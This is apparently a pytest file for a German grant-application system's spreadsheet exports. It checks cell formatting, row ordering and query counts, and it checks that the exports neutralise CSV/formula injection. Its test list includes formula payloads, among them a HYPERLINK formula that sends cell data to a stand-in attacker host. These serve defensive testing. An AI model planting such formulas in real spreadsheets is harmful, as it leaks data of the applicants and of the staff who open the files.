"""The committee's exports of a round (grants.exports): cells as people read them, only the
round's applications in reference order, spreadsheets that open cleanly in German Excel — and
applicants' text that never turns into a formula (CSV/formula injection)."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from grants import exports
from grants.forms import exported_fields
from grants.models import ApplicationStatus, GrantApplication
from tests.builders import make_district, make_funding_round

from .builders import make_application

pytestmark = pytest.mark.django_db

UTC = datetime.UTC


@pytest.fixture
def funding_round():
    return make_funding_round(
        datetime.datetime(2026, 1, 1, tzinfo=UTC),
        datetime.datetime(2026, 3, 31, tzinfo=UTC),
        title="Zuschüsse 2026",
        year=2026,
    )


def csv_rows(applications):
    text = exports.as_csv(applications).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def csv_records(applications):
    header, *rows = csv_rows(applications)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_sheet(applications, title="Zuschüsse 2026"):
    return load_workbook(io.BytesIO(exports.as_xlsx(applications, title))).active


def xlsx_records(applications):
    sheet = xlsx_sheet(applications)
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- What the cells say ------------------------------------------------------------------------


def test_cells_read_as_people_read_them(funding_round):
    district = make_district("burbach", "Burbach")
    application = make_application(
        funding_round,
        status=ApplicationStatus.GRANTED,
        granted_amount=Decimal("1500.50"),
        legal_form="nev",
        kind="event",
        district=district,
        start_date=datetime.date(2026, 6, 1),
        requested_amount=Decimal("1999.99"),
    )
    GrantApplication.objects.filter(pk=application.pk).update(
        submitted_at=datetime.datetime(2026, 2, 28, 23, 30, tzinfo=UTC)
    )
    [record] = csv_records(exports.export_queryset(funding_round))
    assert record["Aktenzeichen"] == application.reference
    assert record["Eingegangen am"] == "01.03.2026 00:30"  # Berlin time
    assert record["Status"] == "Bewilligt"
    assert record["Rechtsform"] == "Nicht eingetragener Verein oder Initiative"
    assert record["Art des Vorhabens"] == "Veranstaltung"
    assert record["Stadtteil"] == "Burbach"
    assert record["Beginn"] == "01.06.2026"
    assert record["Beantragter Zuschuss (EUR)"] == "1999,99"
    assert record["Drittmittel (EUR)"] == "0,00"
    assert record["Bewilligter Betrag (EUR)"] == "1500,50"
    assert record["Registernummer"] == "VR 4711"


def test_empty_values_are_empty_cells(funding_round):
    make_application(funding_round, register_number="", district=None)
    [record] = csv_records(exports.export_queryset(funding_round))
    assert record["Registernummer"] == ""
    assert record["Stadtteil"] == ""
    assert record["Bewilligter Betrag (EUR)"] == ""
    [row] = xlsx_records(exports.export_queryset(funding_round))
    assert row["Stadtteil"] is None
    assert row["Bewilligter Betrag (EUR)"] is None


def test_header_is_the_record_then_the_forms_fields_then_the_decision(funding_round):
    header = csv_rows(exports.export_queryset(funding_round))[0]
    labels = [
        str(GrantApplication._meta.get_field(name).verbose_name) for name in exported_fields()
    ]
    assert header == [
        "Aktenzeichen",
        "Eingegangen am",
        "Status",
        *labels,
        "Kostenpositionen",
        "Finanzierungspositionen",
        "Bewilligter Betrag (EUR)",
    ]
    for private in ("IBAN", "BIC", "Kontoinhaber*in", "Erklärung der Richtigkeit"):
        assert private not in header


def test_only_the_rounds_applications_in_reference_order(funding_round):
    other = make_funding_round(
        datetime.datetime(2025, 1, 1, tzinfo=UTC),
        datetime.datetime(2025, 3, 31, tzinfo=UTC),
        title="Zuschüsse 2025",
    )
    first = make_application(funding_round, organisation_name="Erster")
    make_application(other, organisation_name="Andere Runde")
    second = make_application(funding_round, organisation_name="Zweiter")
    # Receipt order differs from reference order: the export follows the reference.
    GrantApplication.objects.filter(pk=first.pk).update(
        submitted_at=datetime.datetime(2026, 3, 1, tzinfo=UTC)
    )
    records = csv_records(exports.export_queryset(funding_round))
    assert [r["Aktenzeichen"] for r in records] == [first.reference, second.reference]
    assert "Andere Runde" not in {r["Name der Organisation"] for r in records}


def test_export_needs_a_fixed_number_of_queries(funding_round, django_assert_num_queries):
    for number in range(5):
        make_application(funding_round, district=make_district(f"bezirk-{number}"))
    # The applications, their cost lines, their income lines, the round's questions.
    with django_assert_num_queries(4):
        exports.as_csv(exports.export_queryset(funding_round), funding_round)
    with django_assert_num_queries(4):
        exports.as_xlsx(exports.export_queryset(funding_round), "Zuschüsse", funding_round)


# --- CSV for German Excel ----------------------------------------------------------------------


def test_csv_quotes_separators_quotes_and_line_breaks(funding_round):
    description = 'Erstens; zweitens.\nDrittens: "Fest" am See.'
    make_application(funding_round, description=description, title="Kochen; Essen")
    [record] = csv_records(exports.export_queryset(funding_round))
    assert record["Beschreibung"] == description
    assert record["Titel des Vorhabens"] == "Kochen; Essen"


def test_csv_is_utf8_with_byte_order_mark(funding_round):
    make_application(funding_round, organisation_name="Çocuk ve Aile Derneği – Ümraniye")
    data = exports.as_csv(exports.export_queryset(funding_round))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Çocuk ve Aile Derneği – Ümraniye".encode() in data


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_amounts_are_numbers_with_german_format(funding_round):
    make_application(funding_round, requested_amount=Decimal("1234.5"))
    sheet = xlsx_sheet(exports.export_queryset(funding_round))
    header = [cell.value for cell in sheet[1]]
    requested = sheet.cell(row=2, column=header.index("Beantragter Zuschuss (EUR)") + 1)
    assert requested.value == 1234.5
    assert requested.number_format == "#,##0.00"
    title = sheet.cell(row=2, column=header.index("Titel des Vorhabens") + 1)
    assert title.number_format == "General"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize(
    ("title", "sheet_title"),
    [
        ("Zuschüsse 2026", "Zuschüsse 2026"),
        ("Runde 1/2: [Frühjahr]?", "Runde 1 2   Frühjahr  "),
        ("Eine sehr lange Bezeichnung der Antragsrunde", "Eine sehr lange Bezeichnung der"),
        ("", "Anträge"),
    ],
)
def test_xlsx_sheet_title_is_what_excel_allows(funding_round, title, sheet_title):
    sheet = xlsx_sheet(exports.export_queryset(funding_round), title)
    assert sheet.title == sheet_title
    assert len(sheet.title) <= 31


# --- Formula injection --------------------------------------------------------------------------

#: One text per prefix a spreadsheet reads as the start of a formula (OWASP „CSV injection“).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Klick")',
    "=1+1",
    "+49 681 123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_application(funding_round, text):
    """An application with `text` in every free-text field that reaches an export: the record,
    its financing plan's lines and a text answer to a question of the round."""
    application = make_application(
        funding_round,
        organisation_name=text,
        title=text,
        contact_name=text,
        place=text,
        description=text,
        round_questions=[{"key": "ziel", "label": "Ziel", "type": "text"}],
        round_answers={"ziel": text},
    )
    application.cost_lines.create(description=text, amount=Decimal("3000.00"))
    application.income_lines.create(kind="own", description=text, amount=Decimal("1000.00"))
    return application


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_the_xlsx_is_a_formula(funding_round, text):
    """Every sheet opened with openpyxl: no formula cell anywhere, no <f> element in the file,
    the applicant's text unchanged as a quote-prefixed string cell; amounts stay numbers."""
    hostile_application(funding_round, text)
    data = exports.as_xlsx(exports.export_queryset(funding_round), "Zuschüsse", funding_round)
    workbook = load_workbook(io.BytesIO(data))
    hostile = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if cell.value == text:
                    hostile += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
    # organisation, title, contact, place, description, answer; and on the plan sheet the
    # organisation of each of the three lines and the two lines' descriptions.
    assert hostile == 6 + 3 + 2
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet, plan = workbook.worksheets
    header = [cell.value for cell in sheet[1]]
    requested = sheet.cell(row=2, column=header.index("Beantragter Zuschuss (EUR)") + 1)
    assert requested.data_type == "n" and requested.value == 2000
    assert {cell.data_type for cell in plan["G"][1:]} == {"n"}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_cell_of_the_csv_starts_a_formula(funding_round, text):
    """A spreadsheet opening the CSV sees a leading apostrophe: the cell stays text."""
    hostile_application(funding_round, text)
    header, *rows = csv_rows(exports.export_queryset(funding_round))
    [row] = rows
    for heading, cell in zip(header, row, strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (heading, cell)
    record = dict(zip(header, row, strict=True))
    for column in (
        "Name der Organisation",
        "Titel des Vorhabens",
        "Name der Ansprechperson",
        "Ort der Durchführung",
        "Beschreibung",
        "Ziel",
    ):
        assert record[column] == "'" + text, column
    assert record["Beantragter Zuschuss (EUR)"] == "2000,00"


def test_the_admin_export_is_neutralised_too(client, funding_round, clerk):
    """The files staff download from the round's page, not only the functions behind them."""
    hostile_application(funding_round, FORMULAS[0])
    client.force_login(clerk)
    xlsx = client.get(f"/admin/grants_rounds/export/{funding_round.pk}/xlsx/")
    workbook = load_workbook(io.BytesIO(xlsx.content))
    assert all(
        cell.data_type != "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
    response = client.get(f"/admin/grants_rounds/export/{funding_round.pk}/csv/")
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    header, row = csv.reader(io.StringIO(text), delimiter=";")
    assert dict(zip(header, row, strict=True))["Name der Organisation"] == "'" + FORMULAS[0]
    assert not any(cell.startswith("=") for cell in row)


def test_ordinary_text_and_amounts_are_left_alone(funding_round):
    make_application(funding_round, title="Sommerfest 2026 – für alle", contact_phone="0681 1")
    [record] = csv_records(exports.export_queryset(funding_round))
    assert record["Titel des Vorhabens"] == "Sommerfest 2026 – für alle"
    assert record["Telefonnummer"] == "0681 1"
    assert record["Gesamtkosten (EUR)"] == "3000,00"
